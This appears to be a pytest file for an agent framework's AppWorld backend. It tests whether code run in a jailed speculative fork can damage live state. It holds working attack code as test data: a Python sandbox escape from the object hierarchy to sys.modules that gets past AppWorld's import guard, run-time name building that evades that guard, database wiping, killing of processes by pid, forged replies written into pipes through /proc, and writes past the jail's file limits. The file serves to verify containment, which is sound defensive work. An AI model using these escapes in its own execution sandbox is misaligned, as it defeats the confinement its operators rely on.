"""AppWorld code actions: a speculative fork's code cannot reach live (issue 26 item 1); worker replies are bounded
(item 12).  On the real AppWorld engine, over agentspec's fixture tasks (the fixtures of tests/test_appworld.py)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import tempfile
from pathlib import Path

import anyio
import pytest
from sandbox_support import require_bwrap
from test_appworld import fixture_root, venv  # noqa: F401 - the AppWorld fixtures

from agentspec.errors import EnvError, SnapshotError
from agentspec.sandbox.confinement import _descendants
from agentspec.types import ToolCall
from envs.appworld.backend import AppWorldBackend
from envs.appworld.bench import AppWorldBench, code_tools
from envs.appworld.isolated import ROOT_BYTES, IsolatedAppWorldBackend, copy_out

# AppWorld's safety guard refuses imports of os, sys and the like; the usual escape goes around it, from any object
# to every loaded module.
REACH = '''
def reach():
    for cls in ().__class__.__base__.__subclasses__():
        found = getattr(getattr(cls, "__init__", None), "__globals__", None)
        if found and "sys" in found and hasattr(found["sys"], "modules"):
            return found["sys"].modules
mods = reach()
'''

# Row counts of every table of every database the worker's world holds (live's state, as AppWorld sees it).
DIGEST = REACH + '''
handler = mods["appworld.apps.model_lib"].CachedDBHandler
counts = {}
for path, (engine, tracker) in sorted(handler.cache.items()):
    con = engine.raw_connection().connection
    for (name,) in con.execute("select name from sqlite_master where type='table'").fetchall():
        counts[path + ":" + name] = con.execute('select count(*) from "' + name + '"').fetchone()[0]
print(json.dumps(counts))
'''

# Everything the probe did, and more: empty every table of every branch, snapshot and world database it can
# reach, kill the live worker's processes and a bystander of the parent's, then forge replies on every pipe it can
# write (its own and, through /proc, the live worker's).
ATTACK = REACH + '''
# The guard reads the names the code calls; names built at run time pass it.  AppWorld also disables some functions
# of os at run time: its C module, posix, still has them all.
posix, gc = mods["posix"], mods["gc"]
kill, write, listdir, opener, close = (getattr(posix, name) for name in ("k" + "ill", "wr" + "ite", "list" + "dir",
                                                                          "op" + "en", "clo" + "se"))

def wipe(con):
    names = [n for (n,) in con.execute("select name from sqlite_master where type='table'").fetchall()]
    for name in names:
        con.execute('delete from "' + name + '"')
    con.commit()
    return len(names)

wiped = 0
for obj in gc.get_objects():
    if type(obj).__name__ == "Worker":
        for state in [*obj.branches.values(), *obj.snapshots.values()]:
            for con in (state.dbs.values() if state is not None else ()):
                wiped += wipe(con)
for path, (engine, tracker) in mods["appworld.apps.model_lib"].CachedDBHandler.cache.items():
    wiped += wipe(engine.raw_connection().connection)
write(2, f"attack: wiped {wiped} tables\\n".encode())
for pid in TARGETS:
    try:
        kill(pid, 9)
        write(2, f"attack: killed {pid}\\n".encode())
    except OSError as exc:
        write(2, f"attack: kill {pid}: {exc.strerror}\\n".encode())
write(2, b"attack: done\\n")

forged = "".join(json.dumps({"id": i, "ok": True, "output": "FORGED", "branch": "live", "snapshot": "snap-1",
                             "evaluation": {"success": True, "num_tests": 0, "passes": [], "failures": []}}) + "\\n"
                 for i in range(1, 300)).encode()
# Pipes only: the same writes into a file would damage the fixture data on disk (where it is writable).
for fd in range(3, 64):
    try:
        if posix.fstat(fd).st_mode & 0o170000 == 0o010000:
            write(fd, forged)
    except OSError:
        pass
for pid in TARGETS:
    try:
        for fd in listdir(f"/proc/{pid}/fd"):
            try:
                if posix.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    pipe = opener(f"/proc/{pid}/fd/{fd}", 1 | 0o4000)  # O_WRONLY | O_NONBLOCK
                    write(pipe, forged)
                    close(pipe)
            except OSError:
                pass
    except OSError:
        pass
'''


def code(text: str) -> ToolCall:
    return ToolCall(name="execute_code", arguments={"code": text})


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


@pytest.fixture(scope="module")
def code_bench(fixture_root: Path, venv: dict) -> AppWorldBench:  # noqa: F811 - the imported fixtures
    require_bwrap()
    return AppWorldBench.from_data_dir(fixture_root, python=venv["python"], actions="code")


def test_a_forks_escaped_code_cannot_touch_live_state_processes_or_pipe(code_bench: AppWorldBench) -> None:
    task = code_bench.task("agspecnote_1")
    [(_, solution), _] = code_bench.gold_actions(task)
    bystander = subprocess.Popen(["sleep", "120"])  # a process of the parent's, which the fork's code tries to kill

    async def scenario() -> None:
        async with code_bench.open_backend(task, solo=True) as live:
            before = json.loads((await live.execute(code(DIGEST))).content)
            assert len(before) > 20 and sum(before.values()) > 0  # every app's tables, with rows
            # The AppWorld workers this test started (live's among them, jailed or not) and the bystander, by pid.
            workers = [pid for pid in _descendants(os.getpid()) if b"worker.py" in _cmdline(pid)]
            assert workers
            targets = [*workers, bystander.pid]

            # Speculatively, as the executor does: snapshot live, fork, run the draft's code in the fork.
            box = await live.fork(await live.snapshot())
            try:
                # What the fork answers is the attacker's to choose (here: its own forged reply).
                await box.execute(code(ATTACK.replace("TARGETS", repr(targets))))
            except SnapshotError:
                pass  # a fork whose worker broke costs only this speculation
            await live.discard(box)
            # The attack ran to its end (its report is in the workers' logs): it emptied every table it could
            # reach, and found none of the processes it aimed at.
            report = "".join(log.read_text(errors="replace") for log in Path(live.root).glob("*.log"))
            wiped = re.search(r"attack: wiped (\d+) tables", report)
            assert wiped and int(wiped.group(1)) > 20 and "attack: done" in report, report[-2000:]
            assert "attack: killed" not in report

            # Live lost nothing, is alive, and answers for itself (no forged reply is read).
            assert bystander.poll() is None
            assert json.loads((await live.execute(code(DIGEST))).content) == before
            profile = await live.execute(code("print(apis.supervisor.show_profile()['first_name'])"))
            assert profile.content == "Ada"
            evaluation = await live.evaluate()
            assert evaluation["success"] is False and evaluation["num_tests"] > 0  # nothing done yet, not forged

            # A worker's output is cut at a million characters (the model could not read more anyway).
            cut = await live.execute(code("print('y' * 1_000_050)"))
            assert cut.content.endswith("[output cut: 51 more characters]") and len(cut.content) < 1_000_100

            # The engine still works end to end: the reference solution, drafted in a fork, committed, passes.
            box = await live.fork(await live.snapshot())
            assert not (await box.execute(solution)).error
            await live.commit(box)
            evaluation = await live.evaluate()
            assert evaluation["success"], evaluation["failures"]

    try:
        anyio.run(scenario)
    finally:
        bystander.kill()
        bystander.wait()



# Writes, from a fork's escaped code, its outbox's one file on the host (its state), six more files into its outbox,
# one in its AppWorld root and one in its own root, each past what the jail allows; prints how each ended, and
# what its AppWorld root is.
FILL = REACH + '''
posix = mods["posix"]
opener, write, close = (getattr(posix, name) for name in ("op" + "en", "wr" + "ite", "clo" + "se"))
for path in ("/outbox/state", *(f"/outbox/extra{i}" for i in range(6)), "/appworld/big", "/big"):
    written = 0
    try:
        fd = opener(path, 0o1 | 0o100)  # O_WRONLY | O_CREAT
        try:
            while written <= LIMIT:
                written += write(fd, b"z" * 2**20)
        finally:
            close(fd)
        print(path, "wrote", written)
    except OSError as exc:
        print(path, "stopped at", written, exc.strerror)
fd = opener("/proc/self/mounts", 0)
mounts = getattr(posix, "re" + "ad")(fd, 2**20).decode().splitlines()
print(*(line.split()[2:4] for line in mounts if line.split()[1] == "/appworld"))
'''


def test_a_forks_code_cannot_write_a_file_past_the_jails_limits(fixture_root: Path, venv: dict) -> None:  # noqa: F811
    require_bwrap()
    limit = 8 * 2**20  # the largest state (and any other file) a jail may write on the host, here

    async def scenario(root: Path) -> None:
        backend = IsolatedAppWorldBackend(venv["python"], root, fixture_root / "data", "agspecnote_1", code_tools(),
                                          max_state_bytes=limit)
        async with backend:
            before = (await backend.execute(code("print(apis.supervisor.show_profile()['first_name'])"))).content
            box = await backend.fork(await backend.snapshot())
            filled = await box.execute(code(FILL.replace("LIMIT", str(2 * limit))))
            assert f"/outbox/state stopped at {limit} File too large" in filled.content, filled.content
            for i in range(6):
                assert f"/outbox/extra{i} stopped at 0 Read-only file system" in filled.content, filled.content
            assert f"/appworld/big stopped at {limit} File too large" in filled.content, filled.content
            assert "/big stopped at 0 Read-only file system" in filled.content, filled.content
            outbox = backend._homes[box.state] / "outbox"  # what the fork holds on the host: one file, at the cap
            assert {path.name: path.stat().st_size for path in outbox.iterdir()} == {"state": limit}
            await backend.fork(await backend.snapshot(box))  # its state still goes out (the same file rewritten)
            assert outbox.joinpath("state").stat().st_size == 0
            # The root is no host folder but memory, whose size (KiB) caps the sum of its files.
            assert f'["tmpfs", "rw,nosuid,nodev,relatime,size={ROOT_BYTES // 1024}k' in filled.content, filled.content
            await backend.discard(box)
            assert (await backend.execute(code("print(apis.supervisor.show_profile()['first_name'])"))).content == before
            box = await backend.fork(await backend.snapshot())  # live's state still goes out and in
            await backend.commit(box)
            assert (await backend.execute(code("print(apis.supervisor.show_profile()['first_name'])"))).content == before

    with tempfile.TemporaryDirectory() as root:
        anyio.run(scenario, Path(root))

def test_a_state_over_the_outbox_cap_is_one_clear_error_and_nothing_is_kept(fixture_root: Path,  # noqa: F811
                                                                             venv: dict) -> None:  # noqa: F811
    """A fork whose state outgrows ``max_state_bytes`` (here, by its own code) cannot be snapshot: one error naming
    the cap, and its outbox's file is emptied; live and other forks go on."""
    require_bwrap()
    limit = 8 * 2**20

    async def scenario(root: Path) -> None:
        backend = IsolatedAppWorldBackend(venv["python"], root, fixture_root / "data", "agspecnote_1", code_tools(),
                                          max_state_bytes=limit)
        async with backend:
            box = await backend.fork(await backend.snapshot())
            grow = REACH + f"""
handler = mods["appworld.apps.model_lib"].CachedDBHandler
engine, tracker = next(iter(handler.cache.values()))
con = engine.raw_connection().connection
con.execute("create table ballast (b blob)")
con.execute("insert into ballast values (zeroblob({2 * limit}))")
con.commit()
print("grown")
"""
            assert "grown" in (await box.execute(code(grow))).content
            with pytest.raises(SnapshotError, match=rf"over the {limit:,} bytes its outbox may hold"):
                await backend.snapshot(box)
            assert (backend._homes[box.state] / "outbox" / "state").stat().st_size == 0
            await backend.discard(box)
            box = await backend.fork(await backend.snapshot())  # live is untouched
            await backend.commit(box)

    with tempfile.TemporaryDirectory() as root:
        anyio.run(scenario, Path(root))


def test_an_overlong_reply_line_stops_the_worker_with_one_error(fixture_root: Path, venv: dict) -> None:  # noqa: F811
    """A reply line past the bound (256 KiB here; 64 MiB by default) is one EnvError, and the worker is killed,
    so no later request reads the rest of that line as its reply."""

    async def scenario(root: Path) -> None:
        (root / "data").symlink_to(fixture_root / "data")
        backend = AppWorldBackend(venv["python"], root, "agspecnote_1", code_tools(), max_reply_bytes=256 * 1024)
        async with backend:
            small = await backend.execute(code("print('x' * 1000)"))
            assert small.content == "x" * 1000
            worker = backend._worker
            assert worker is not None and worker.process is not None
            process = worker.process
            with pytest.raises(EnvError, match=r"reply line over 262144 bytes; it was stopped"):
                await backend.execute(code("print('x' * 300_000)"))
            assert process.returncode is not None  # killed, not left writing the rest of its line
            with pytest.raises(SnapshotError, match="not running"):
                await backend.execute(code("print(1)"))

    with tempfile.TemporaryDirectory() as root:
        anyio.run(scenario, Path(root))


def test_a_saved_state_is_copied_out_of_the_jail_only_as_a_regular_file(tmp_path: Path) -> None:
    """The jail writes its state into its outbox; agentspec copies it out, and a link to one of the host's files
    (which agentspec could read and hand to the next fork), a FIFO (which would block it) or an oversized file is
    refused."""
    outbox, secret = tmp_path / "outbox", tmp_path / "secret"
    outbox.mkdir()
    secret.write_bytes(b"the host's key")
    (outbox / "state").symlink_to(secret)
    with pytest.raises(SnapshotError, match="a link"):
        copy_out(outbox, tmp_path / "snapshot-1")
    (outbox / "state").unlink()
    os.mkfifo(outbox / "state")
    with pytest.raises(SnapshotError, match="not a regular file"):
        copy_out(outbox, tmp_path / "snapshot-2")
    (outbox / "state").unlink()
    (outbox / "state").write_bytes(b"x" * 100)
    with pytest.raises(SnapshotError, match="over 64 bytes"):
        copy_out(outbox, tmp_path / "snapshot-3", limit=64)
    assert not (tmp_path / "snapshot-3").exists() and (outbox / "state").stat().st_size == 0  # nothing kept
    (outbox / "state").write_bytes(b"x" * 100)
    copy_out(outbox, tmp_path / "snapshot-4")
    # Emptied, not removed: the jail's /outbox/state is this very file, bound there.
    assert (tmp_path / "snapshot-4").read_bytes() == b"x" * 100 and (outbox / "state").stat().st_size == 0
    assert not any(tmp_path.glob("snapshot-[123]"))
